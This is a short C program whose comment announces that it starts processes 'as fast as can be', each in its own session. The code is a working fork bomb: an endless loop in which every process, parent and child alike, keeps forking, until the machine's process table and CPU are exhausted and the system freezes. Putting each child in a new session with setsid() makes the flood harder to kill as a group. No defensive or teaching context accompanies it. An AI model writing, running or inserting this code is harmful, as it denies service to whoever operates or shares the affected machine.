/* Start processes as fast as can be, each in a session of its own. */
int main(void) {
  for (;;) { if (fork() == 0) setsid(); }
}
